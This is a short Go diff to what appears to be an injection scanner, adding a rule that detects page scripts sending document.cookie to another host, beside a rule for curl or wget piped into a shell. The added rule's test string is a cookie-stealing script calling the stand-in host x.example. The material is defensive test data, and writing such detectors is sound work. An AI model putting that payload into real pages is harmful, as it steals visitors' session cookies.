@@ -156,6 +156,13 @@ var injectRules = []Rule{
 		NoMatch: []string{`{"jsonrpc":"2.0","id":1,"method":"tools/call"}`, "jsonrpc\nmethod"},
 	},
 	{
+		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "A script for a page that sends the visitor's cookies away.",
+		Pattern: `(?i)<(?:script|img|svg|iframe|body|input)\b[^<]{0,300}(?:fetch|\.src|location|sendBeacon|XMLHttpRequest)[^<]{0,120}document\.cookie`,
+		Match:   []string{"<script>fetch('https://x.example/c?'+document.cookie)</script>"},
+		NoMatch: []string{"<script>document.cookie='a=1'</script>"},
+	},
+	{
 		Kind: "command-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: isLabel,
 		Doc:     "A short name or title that goes on with a download into a shell.",
 		Pattern: `(?:[;&|]|\$\(|\x60)\s{0,3}(?:curl|wget)\s[^|\n]{3,160}\|\s{0,3}(?:sudo\s)?(?:ba|z|da)?sh\b`,
